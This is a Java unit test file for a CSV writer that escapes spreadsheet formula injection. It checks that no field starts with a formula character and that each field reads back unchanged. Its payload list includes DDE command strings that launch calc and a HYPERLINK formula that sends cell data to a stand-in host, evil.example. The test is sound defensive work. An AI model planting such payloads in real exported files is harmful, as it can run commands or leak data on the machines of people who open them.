package io.customerhub.service;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

final class SafeCsvTest {

    /** Kinds of payload that the OWASP page on CSV injection names, in plain and full-width signs, and in other dress. */
    private static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20SUM(1)",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")",
            "=1,=2",
            "\"=1+1",
            ";=1+1");

    @Test
    void noFieldBeginsAFormulaAndEveryFieldIsReadBack() {
        for (String payload : PAYLOADS) {
            String line = new SafeCsv(true).line(List.of("a", payload, "z"));
            List<String> fields = read(line);
            assertThat(fields).as(payload).hasSize(3);
            String field = fields.get(1);
            assertThat("=+-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20".indexOf(field.charAt(0)))
                    .as(payload)
                    .isNegative();
            assertThat(field.startsWith("'") ? field.substring(1) : field).isEqualTo(payload.replace("\0", ""));
        }
    }

    @Test
    void whoReadsWithAProgramGetsFieldsAsTheyAre() {
        assertThat(new SafeCsv(false).line(Arrays.asList("-5", "=1", null, 7L))).isEqualTo("-5,=1,,7");
        assertThat(new SafeCsv(true).line(Arrays.asList("-5", "a\"b", null, 7L)))
                .isEqualTo("'-5,\"a\"\"b\",,7");
    }

    /** As RFC 4180 reads a line. */
    private static List<String> read(String line) {
        java.util.ArrayList<String> fields = new java.util.ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++) {
            char c = line.charAt(i);
            if (quoted && c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"') {
                field.append('"');
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (c == ',' && !quoted) {
                fields.add(field.toString());
                field.setLength(0);
            } else {
                field.append(c);
            }
        }
        fields.add(field.toString());
        return fields;
    }
}
